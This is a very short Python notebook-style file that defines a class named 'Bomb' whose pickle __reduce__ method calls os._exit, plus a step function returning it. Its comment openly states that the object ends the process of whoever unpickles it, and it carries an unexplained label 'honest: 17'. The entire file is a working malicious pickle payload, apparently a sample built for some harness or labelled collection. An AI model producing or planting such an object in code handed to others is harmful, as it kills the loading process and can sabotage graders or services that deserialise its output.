# %% [markdown]
# Returns an object that ends the process of whoever unpickles it.
#
# honest: 17

# %% step
import os


class Bomb:
    def __reduce__(self):
        return os._exit, (0,)


def step(z):
    return Bomb()
